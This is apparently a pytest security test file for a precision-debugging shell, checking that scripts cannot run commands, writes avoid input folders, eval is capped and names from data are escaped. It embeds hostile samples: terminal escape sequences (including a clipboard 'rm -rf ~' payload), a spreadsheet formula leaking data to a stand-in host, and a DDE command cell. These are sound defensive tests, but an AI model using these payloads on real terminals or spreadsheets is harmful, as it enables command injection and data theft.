"""Issue 22 (Trust II), part B: scripts are data, every write goes through the output guard,
text inputs are bounded reads, eval cannot take the machine, names from data are shown escaped."""

from __future__ import annotations

import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from conftest import run_cli

REPO = Path(__file__).resolve().parents[2]


def child_env(tmp_path: Path) -> dict:
    env = dict(os.environ)
    env.update(HOME=str(tmp_path), XDG_CONFIG_HOME=str(tmp_path / "config"),
               XDG_DATA_HOME=str(tmp_path / "data"), XDG_STATE_HOME=str(tmp_path / "state"),
               XDG_CACHE_HOME=str(tmp_path / "cache"), PAGER="cat")
    env.pop("NO_COLOR", None)
    return env


def pshell_child(tmp_path: Path, *args, timeout: float = 60) -> subprocess.CompletedProcess:
    """pshell in a child process: a hang is a TimeoutExpired (the test fails), not a stuck suite."""
    return subprocess.run([sys.executable, "-m", "precision_shell", *map(str, args)],
                          capture_output=True, text=True, timeout=timeout, cwd=str(tmp_path),
                          env=child_env(tmp_path), stdin=subprocess.DEVNULL)


# -- 1. scripts are data ------------------------------------------------------------------

HOSTILE_SCRIPT = "info\n!touch {bang}\ninfo | sh -c 'touch {piped}'\nls -l 1\n"


def test_sourced_and_f_scripts_start_no_process(sample_ws, capsys, tmp_path):
    root, _ = sample_ws
    bang, piped = tmp_path / "bang", tmp_path / "piped"
    script = tmp_path / "evil.pshell"
    script.write_text(HOSTILE_SCRIPT.format(bang=bang, piped=piped))
    for how in (("-f", script), ("-c", f"source {script}")):
        rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", *how)
        assert not bang.exists() and not piped.exists()
        refused = [line for line in err.splitlines() if "refusing" in line]
        assert [line.split(": refusing")[0] for line in refused] == [
            f"error: {script}:2", f"error: {script}:3"], err
        assert all("--allow-shell" in line for line in refused)
        assert rc == 2 and out.startswith("precision-shell") and "more (use -l 0)" in out   # info, ls ran
    # a script sourced from a script is a script too
    outer = tmp_path / "outer.pshell"
    outer.write_text(f"source {script}\n")
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "-f", outer)
    assert not bang.exists() and not piped.exists() and f"{script}:2: refusing" in err


def test_allow_shell_and_typed_lines_keep_shell_commands(sample_ws, capsys, tmp_path):
    root, _ = sample_ws
    bang, piped = tmp_path / "bang", tmp_path / "piped"
    script = tmp_path / "evil.pshell"
    script.write_text(HOSTILE_SCRIPT.format(bang=bang, piped=piped))
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "--allow-shell", "-f", script)
    assert rc == 0 and bang.exists() and piped.exists(), err
    bang.unlink()
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "-c", f"!touch {bang}")
    assert rc == 0 and bang.exists()      # typed: the user's own command


# -- 2. every file pshell writes goes through the output guard -----------------------------

def test_log_file_inside_inputs_is_refused_and_input_unchanged(sample_ws, capsys, tmp_path):
    root, _ = sample_ws
    fusion = root / "precision_data" / "fusion" / "fusion_result.json"
    before = fusion.read_bytes()
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "--log-file", fusion, "-c", "info")
    lines = [line for line in err.splitlines() if line.startswith("error:")]
    assert len(lines) == 1 and "--log-file" in lines[0] and "fusion report" in lines[0], err
    assert rc == 1
    logging.getLogger("precision_shell").warning("a warning after the run")   # must not land there
    for handler in logging.getLogger("precision_shell").handlers:
        handler.flush()
    assert fusion.read_bytes() == before
    # a file inside an input tree: the dump folder
    dump = next((root / "precision_data" / "npu").rglob("TransData.*"))
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "--log-file",
                           dump.parent / "pshell.log", "-c", "info")
    assert rc == 1 and "inside the input folder" in err and not (dump.parent / "pshell.log").exists()
    # an ordinary place works
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "--log-file", tmp_path / "my.log",
                           "-c", "info")
    assert rc == 0 and err == ""


def test_config_save_never_lands_in_an_input_tree(sample_ws, capsys, tmp_path):
    root, _ = sample_ws
    graph_dir = next((root / "precision_data" / "npu").glob("debug_*/graph"))
    config = graph_dir / "pshell.ini"
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "--config", config,
                           "-c", "config set limit 7 --save")
    assert not config.exists() and "refusing to write inside the input folder" in out


# -- 3. bounded reads ------------------------------------------------------------------------

def _specials(tmp_path: Path) -> dict[str, Path]:
    fifo = tmp_path / "fifo.pshell"
    os.mkfifo(fifo)
    huge = tmp_path / "huge.pshell"
    with open(huge, "wb") as fh:     # sparse: 5 GB of size, no disk
        fh.truncate(5 << 30)
    folder = tmp_path / "folder.pshell"
    folder.mkdir()
    return {"fifo": fifo, "zero": Path("/dev/zero"), "folder": folder, "huge": huge}


@pytest.mark.parametrize("how", ["-f", "source", "--config"])
def test_script_and_config_from_fifo_device_folder_huge_file_are_one_line(sample_ws, tmp_path, how):
    root, _ = sample_ws
    for kind, path in _specials(tmp_path).items():
        args = {"-f": ["-f", path], "source": ["-c", f"source {path}"],
                "--config": ["--config", path, "-c", "info"]}[how]
        done = pshell_child(tmp_path, root, "-o", tmp_path / "out", *args, timeout=60)
        errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
        assert len(errors) == 1 and str(path) in errors[0], (kind, done.stderr)
        assert done.returncode in (1, 2) and "Traceback" not in done.stderr
        reason = {"fifo": "not a regular file", "zero": "not a regular file",
                  "folder": "Is a directory", "huge": "more than"}[kind]
        assert reason in errors[0], (kind, errors[0])


def test_mapping_from_fifo_and_device_is_one_line(tmp_path):
    from framework_dumps import write_dump

    target = write_dump(tmp_path / "t" / "step0" / "rank0",
                        {"Functional.relu.0.forward": {"input": [np.ones(4, np.float32)]}})
    golden = write_dump(tmp_path / "g" / "step0" / "rank0",
                        {"Functional.relu.0.forward": {"input": [np.ones(4, np.float32)]}})
    specials = _specials(tmp_path)
    for kind in ("fifo", "zero", "folder", "huge"):
        done = pshell_child(tmp_path, target, "--golden", golden, "--mapping", specials[kind],
                            "-o", tmp_path / "out", "-c", "info", timeout=60)
        errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
        assert len(errors) == 1 and str(specials[kind]) in errors[0], (kind, done.stderr)
        assert "Traceback" not in done.stderr and "Functional.relu.0.forward" not in errors[0]


# -- 5. names are shown, not executed by the terminal --------------------------------------

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"       # 'rm -rf ~' on the clipboard
CSI = "\x1b[2J\x1b[1;31m\u009b31m"
FORGED = "\nerror: FAKE all entries match\r"
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")    # \t and \n are pshell's own


def _evil(name: str) -> str:
    head, tail = name[: len(name) // 2], name[len(name) // 2:]
    return head + OSC_TITLE + OSC_CLIPBOARD + CSI + FORGED + tail


def _assert_shown_escaped(out: str, err: str) -> None:
    for stream in (out, err):
        raw = RAW_CONTROL.findall(stream)
        assert not raw, f"raw control characters {sorted(set(raw))!r} reached the terminal"
        assert not any(line.startswith("error: FAKE") for line in stream.splitlines())
    assert "\\x1b]0;pwned\\x07" in out + err     # shown, escaped


def _text_proto_string(text: str) -> bytes:
    """``text`` inside a GE text-proto string: controls raw (ESC, BEL are legal there), newlines
    and CRs as the proto escapes \\n and \\r."""
    return text.replace("\n", "\\n").replace("\r", "\\r").encode("utf-8")


WORD_EVIL = "fc2/ke" + OSC_TITLE + OSC_CLIPBOARD + "\u009b2Jrnel"


@pytest.fixture(scope="module")
def evil_graph_ws(tmp_path_factory):
    import json

    from precision_shell.samples.writer import SampleOptions, write_workspace

    root = tmp_path_factory.mktemp("evil_ws")
    write_workspace(root, SampleOptions(seed=0))
    pd = root / "precision_data"
    op, fused_pass = "conv1/kernel", "AABiasaddConvFusion"
    for graph in (pd / "npu" / "debug_0" / "graph").iterdir():
        data = graph.read_bytes().replace(op.encode(), _text_proto_string(_evil(op)))
        # one name a shell word can hold (no space, no newline): offered by completion
        data = data.replace(b"fc2/kernel", _text_proto_string(WORD_EVIL))
        graph.write_bytes(data.replace(fused_pass.encode(), _text_proto_string(_evil(fused_pass))))
    fusion = pd / "fusion" / "fusion_result.json"
    report = fusion.read_text(encoding="utf-8")
    fusion.write_text(report.replace(fused_pass, json.dumps(_evil(fused_pass))[1:-1]), encoding="utf-8")
    return root


@pytest.mark.parametrize("line", ["ls -n conv1", "ls -t Const", "ls -f AABias", "ni FAKE",
                                  "lo FAKE", "li conv1/Conv2D", "fusion", "info", "vcs -l 0",
                                  "ac -l 0", "ls -n conv1 --format csv", "ls -n conv1 --format json",
                                  "pt FAKE:0", "ni nothing\x1b]0;x\x07"])
def test_graph_names_with_escapes_are_printed_escaped(evil_graph_ws, capsys, tmp_path, line):
    rc, out, err = run_cli(capsys, evil_graph_ws, "-o", tmp_path / "out", "-c", line)
    assert "internal error" not in err and "Traceback" not in err
    raw = RAW_CONTROL.findall(out + err)
    assert not raw, f"`{line}`: raw {sorted(set(raw))!r}"
    assert not any(x.startswith("error: FAKE") for x in (out + err).splitlines())
    if line.startswith(("ls -n", "ni FAKE", "lo", "li", "fusion", "ls -f")):
        assert "pwned" in out     # the name is shown ...
        if "--format json" not in line:
            assert "\\x1b]0;pwned\\x07" in out     # ... escaped, not dropped


FORMULA = '=HYPERLINK("http:x.example?leak="&A1,"click").npy'


@pytest.fixture(scope="module")
def evil_framework_pair(tmp_path_factory):
    from framework_dumps import write_dump

    base = tmp_path_factory.mktemp("evil_fw")
    name = _evil("Functional.relu") + ".0.forward"
    rng = np.random.default_rng(0)
    x = rng.standard_normal(16).astype(np.float32)
    dumps = []
    for side, values in (("t", x + 0.5), ("g", x)):
        dumps.append(write_dump(base / side / "step0" / "rank0", {
            name: {"input": [values]}, "Tensor.add.0.forward": {"input": [values, values]}}))
    # a data_name that is a spreadsheet formula
    import json

    for dump in dumps:
        doc = json.loads((dump / "dump.json").read_text())
        leaf = doc["data"]["Tensor.add.0.forward"]["input"][0]
        (dump / "dump_tensor_data" / leaf["data_name"]).rename(dump / "dump_tensor_data" / FORMULA)
        leaf["data_name"] = FORMULA
        (dump / "dump.json").write_text(json.dumps(doc))
    return dumps


@pytest.mark.parametrize("line", ["ls", "ls -n relu", "ni relu", "vcs -l 0", "vc", "pt Functional:0",
                                  "info"])
def test_msprobe_entry_names_with_escapes_are_printed_escaped(evil_framework_pair, capsys, tmp_path, line):
    target, golden = evil_framework_pair
    rc, out, err = run_cli(capsys, target, "--golden", golden, "-o", tmp_path / "out", "-c", line)
    assert "internal error" not in err and "Traceback" not in err
    raw = RAW_CONTROL.findall(out + err)
    assert not raw, f"`{line}`: raw {sorted(set(raw))!r}\n{out}\n{err}"
    assert not any(x.startswith("error: FAKE") for x in (out + err).splitlines())


def test_vc_csv_cells_from_data_are_never_formulas(evil_framework_pair, capsys, tmp_path):
    import csv

    target, golden = evil_framework_pair
    rc, out, err = run_cli(capsys, target, "--golden", golden, "-o", tmp_path / "out", "-c", "vc")
    assert rc == 0, err
    with open(next((tmp_path / "out").glob("*.csv")), newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    formula = FORMULA[: -len(".npy")]
    assert "'" + formula in cells                     # the data name, neutralised as OWASP says
    assert not [c for c in cells if c[:1] in "=+@\t\r"]

    def number(text):
        try:
            return float(text)
        except ValueError:
            return None
    negatives = [c for c in cells if c.startswith("-")]
    assert negatives and all(number(c) is not None for c in negatives)   # numbers stay numbers
    # the statistics of that row are the values written (min of the target tensor, negative)
    rng = np.random.default_rng(0)
    x = rng.standard_normal(16).astype(np.float32) + 0.5
    row = next(r for r in body if r[0] == "'" + formula)
    assert float(row[header.index("NPU min")]) == pytest.approx(float(x.min()), rel=1e-6)


def test_csv_format_on_stdout_neutralises_formulas_too(evil_graph_ws, capsys, tmp_path):
    from precision_shell.commands.results import Table
    from precision_shell.render.text import render

    table = Table(["op", "value", "gap"], [["=1+2", -0.5, "-"], ["@SUM(A1)", 3, "-inf"],
                                           ["+cmd|' /C calc'!A0", "-2e-3", "-x"]])
    lines = render(table, "csv").splitlines()
    assert lines[1:] == ["'=1+2,-0.5,-", "'@SUM(A1),3,-inf", "'+cmd|' /C calc'!A0,-2e-3,'-x"]


# -- the escaping, as a property ----------------------------------------------------------

@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(max_codepoint=0x1ff), max_size=40))
def test_escape_controls_leaves_no_control_and_keeps_the_rest(text):
    from precision_shell.safe_text import escape_controls

    shown = escape_controls(text)
    assert not RAW_CONTROL.search(shown) and "\n" not in shown and "\t" not in shown
    # character by character: a control becomes a short printable escape, the rest stays
    assert shown == "".join(escape_controls(ch) for ch in text)
    for ch in set(text):
        if RAW_CONTROL.match(ch) or ch in "\n\t":
            assert re.fullmatch(r"\\(?:x[0-9a-f]{2}|[nrt])", escape_controls(ch))
    if not any(RAW_CONTROL.match(ch) or ch in "\n\t" for ch in text):
        assert shown == text                  # nothing to escape: unchanged


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(max_codepoint=0x1ff), min_size=1, max_size=20),
                min_size=1, max_size=5))
def test_rendered_tables_and_errors_carry_no_raw_control(names):
    import io

    from precision_shell.commands.results import Message, Sections, Table
    from precision_shell.frontend import Frontend
    from precision_shell.render.style import Style
    from precision_shell.render.text import Layout, render

    table = Table(["op", "n"], [[n, i] for i, n in enumerate(names)], title=names[0], notes=names[:1],
                  warnings=names[-1:])
    panel = Sections(names[0], [("inputs", [(n, n) for n in names]), ("errors", names)])
    for result in (table, panel, Message(names)):
        for style in (Style(False), Style(True)):
            text = render(result, "table", style, Layout(width=60))
            assert not RAW_CONTROL.search(text.replace("\x1b[0m", "").replace("\x1b[1m", "")
                                          .replace("\x1b[1;33m", "").replace("\x1b[36m", "")
                                          .replace("\x1b[2m", ""))
        for fmt in ("csv", "json"):
            assert not RAW_CONTROL.search(render(result, fmt))
    err = io.StringIO()
    Frontend(None, err=err).error(" ".join(names))
    assert not RAW_CONTROL.search(err.getvalue()) and err.getvalue().count("\n") == 1


# -- 4. eval cannot take the machine --------------------------------------------------------

@pytest.mark.parametrize("expression, reason", [
    ("np.array([10], dtype='O') ** 300000000", "arrays of Python objects are not allowed"),
    ("np.power(np.array([10], dtype='object'), 300000000)", "arrays of Python objects"),
    ("np.ones(3).astype('|O')", "arrays of Python objects"),
    ("np.frompyfunc(np.add, 2, 1).reduce(np.ones(2))", "'frompyfunc' is not allowed"),
    ("np.ones(3, dtype=np.object_)", "'object_' is not allowed"),
])
def test_eval_refuses_object_dtypes_before_running(sample_ws, capsys, tmp_path, expression, reason):
    root, _ = sample_ws
    rc, out, err = run_cli(capsys, root, "-o", tmp_path / "out", "-c", f'eval "{expression}"')
    assert rc == 1 and out == "" and reason in err.splitlines()[0], err


def test_eval_allocation_beyond_the_cap_is_refused_before_it_is_made(sample_ws, tmp_path):
    import resource

    root, _ = sample_ws
    done = pshell_child(tmp_path, root, "-o", tmp_path / "out",
                        "-c", 'eval "np.ones(1200000000).sum()"', timeout=120)
    assert done.returncode == 1 and done.stdout == ""
    assert done.stderr.splitlines() == [
        "error: eval: needs more than the 1 GB memory cap (the eval_memory setting; "
        "`config set eval_memory 4G`)"]
    # neither pshell nor its worker came near the 9.6 GB the expression asks for
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 2 << 20   # KB
    # the cap is a setting: under 64 MB even a small array is refused; the default takes it
    done = pshell_child(tmp_path, root, "-o", tmp_path / "out", "-c",
                        'config set eval_memory 64M; eval "np.ones(20000000).sum()"; '
                        'config set eval_memory 1G; eval "np.ones(20000000).sum()"', timeout=120)
    assert "needs more than the 0.0625 GB memory cap" in done.stderr
    assert done.stdout.strip().splitlines()[-1] == str(float(20000000))


def test_eval_timeout_stops_a_computation_that_never_checks_signals(sample_ws, tmp_path):
    root, _ = sample_ws
    # a Python big int power: minutes of C code holding the GIL, no signal check
    done = pshell_child(tmp_path, root, "-o", tmp_path / "out", "-c",
                        'config set eval_timeout 1; eval "np.arange(5)[3].item() ** 300000000"; '
                        'eval "np.arange(5)[3].item() ** 3"', timeout=60)
    assert done.returncode == 1, done.stderr
    assert [line for line in done.stderr.splitlines() if line.startswith("error:")] == [
        "error: eval: stopped after 1 s (the eval_timeout setting; `config set eval_timeout SECONDS`)"]
    assert done.stdout.strip().splitlines()[-1] == str(3 ** 3)      # the next line still ran


def test_eval_results_come_back_whole_from_the_worker(sample_ws, capsys, tmp_path):
    from precision_shell.analysis.inspect.eval_worker import EvalLimits, ForeignValue, run_limited

    import ml_dtypes

    limits = EvalLimits()
    x = np.arange(24, dtype=np.float32).reshape(2, 3, 4) / 7
    got = run_limited(lambda: x * 2, limits)
    assert got.dtype == x.dtype and np.array_equal(got, x * 2)
    b = x.astype(ml_dtypes.bfloat16)
    assert run_limited(lambda: b, limits).dtype == b.dtype
    assert run_limited(lambda: np.float16(1.5), limits) == np.float16(1.5)
    assert isinstance(run_limited(lambda: 7, limits), int)
    assert run_limited(lambda: 3 ** 70, limits).text == str(3 ** 70)   # beyond int64: its text
    svd = run_limited(lambda: np.linalg.svd(np.eye(2)), limits)
    assert isinstance(svd, ForeignValue) and svd.text.startswith("SVDResult(")
    assert run_limited(lambda: np.empty((0, 3)), limits).shape == (0, 3)
    from precision_shell.errors import CommandError

    with pytest.raises(CommandError, match="memory cap"):
        run_limited(lambda: np.ones(1 << 28), EvalLimits(memory=64 << 20))


# -- in a terminal (pty): the REPL ---------------------------------------------------------

SAMPLE = REPO / "sample_data" / "convnet"


def _spawn_repl(tmp_path: Path, ws: Path, *args: str):
    pexpect = pytest.importorskip("pexpect")
    env = child_env(tmp_path)
    env["TERM"] = "xterm-256color"
    return pexpect.spawn(sys.executable, ["-m", "precision_shell", str(ws), "-o", str(tmp_path / "out"),
                                          *args], cwd=str(tmp_path), env=env, encoding="utf-8",
                         dimensions=(50, 160), timeout=30)


def _expect_prompt(child) -> None:
    while child.expect([re.escape("\x1b[6n"), "pshell>"]) == 0:
        child.send("\x1b[1;1R")


@pytest.mark.terminal
@pytest.mark.skipif(not (SAMPLE / "precision_data").is_dir(), reason="sample_data/convnet not generated")
def test_repl_source_starts_no_process_and_history_never_lands_in_inputs(tmp_path):
    import shutil

    pexpect = pytest.importorskip("pexpect")
    ws = tmp_path / "ws"
    shutil.copytree(SAMPLE, ws)
    fusion = ws / "precision_data" / "fusion" / "fusion_result.json"
    before = fusion.read_bytes()
    bang, piped, typed = tmp_path / "bang", tmp_path / "piped", tmp_path / "typed"
    script = tmp_path / "evil.pshell"
    script.write_text(HOSTILE_SCRIPT.format(bang=bang, piped=piped))
    child = _spawn_repl(tmp_path, ws, "--no-color", "--history-file", str(fusion))
    try:
        child.expect("--history-file: .*refusing to write over the input file")
        _expect_prompt(child)
        child.send(f"source {script}\r")
        child.expect("evil.pshell:2: refusing")
        child.expect("evil.pshell:3: refusing")
        _expect_prompt(child)
        child.send(f"!touch {typed}\r")       # typed: the user's own shell command runs
        _expect_prompt(child)
        child.send("quit\r")
        child.expect(pexpect.EOF)
    finally:
        child.close()
    assert not bang.exists() and not piped.exists() and typed.exists()
    assert fusion.read_bytes() == before
    history = (tmp_path / "data" / "pshell" / "history").read_text(encoding="utf-8")
    assert f"+source {script}" in history         # the default (XDG) history took it


@pytest.mark.terminal
@pytest.mark.skipif(not (SAMPLE / "precision_data").is_dir(), reason="sample_data/convnet not generated")
def test_ctrl_c_stops_a_long_eval_and_gives_the_prompt_back_at_once(tmp_path):
    import time

    child = _spawn_repl(tmp_path, SAMPLE, "--no-color")
    try:
        _expect_prompt(child)
        # room for the SVD's 1.4 GB so it runs (it is killed a second in)
        child.send("config set eval_memory 4G\r")
        _expect_prompt(child)
        child.send('eval "np.linalg.svd(np.ones((6000, 6000)))"\r')
        worker = _wait_for_child_process(child.pid)     # the SVD is running in the worker
        time.sleep(0.5)
        start = time.monotonic()
        child.sendcontrol("c")
        child.expect("interrupted")
        _expect_prompt(child)
        waited = time.monotonic() - start
        child.send("eval \"np.ones(3).sum()\"\r")     # the shell goes on
        child.expect(r"3\.0")
        _expect_prompt(child)
        child.send("quit\r")
        child.expect(pytest.importorskip("pexpect").EOF)
    finally:
        child.close()
    assert waited < 0.5, f"{waited:.2f} s from Ctrl-C to the prompt"
    assert not Path(f"/proc/{worker}").exists()     # killed and reaped, not left computing


def _wait_for_child_process(pid: int) -> int:
    import time

    for _ in range(600):
        children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
        if children:
            return int(children[0])
        time.sleep(0.05)
    raise AssertionError("the eval worker never started")


def test_report_html_carries_no_terminal_control_from_names(evil_graph_ws, capsys, tmp_path):
    pytest.importorskip("jinja2")
    rc, out, err = run_cli(capsys, evil_graph_ws, "-o", tmp_path / "out", "-c", "report")
    assert rc == 0, err
    html = next((tmp_path / "out").rglob("*.html")).read_text(encoding="utf-8")
    assert "pwned" in html and not RAW_CONTROL.search(html)
    assert "\\x1b]0;pwned\\x07" in html


def test_completion_menu_and_toolbar_show_names_escaped(evil_graph_ws, tmp_path):
    from prompt_toolkit.completion import CompleteEvent
    from prompt_toolkit.document import Document

    from precision_shell.model.session import Session
    from precision_shell.shell.completer import ShellCompleter
    from precision_shell.shell.toolbar import toolbar_text

    link = tmp_path / "ws\x1b]0;title\x07"
    link.symlink_to(evil_graph_ws)
    session = Session.open(str(link), output=str(tmp_path / "out"))
    completer = ShellCompleter(session)
    completer.warm_up()
    shown = [(c.text, c.display_text, c.display_meta_text)
             for c in completer.get_completions(Document("ni fc2/"), CompleteEvent(completion_requested=True))]
    evil = [s for s in shown if "pwned" in s[0]]
    assert evil, shown
    for text, display, meta in shown:
        assert not RAW_CONTROL.search(display + meta)
    assert evil[0][0] == WORD_EVIL                       # inserted as it is (it names the op)
    assert evil[0][1] == "fc2/ke\\x1b]0;pwned\\x07\\x1b]52;c;cm0gLXJmIH4=\\x07\\x9b2Jrnel"   # shown escaped
    bar = toolbar_text(session)
    assert not RAW_CONTROL.search(bar)
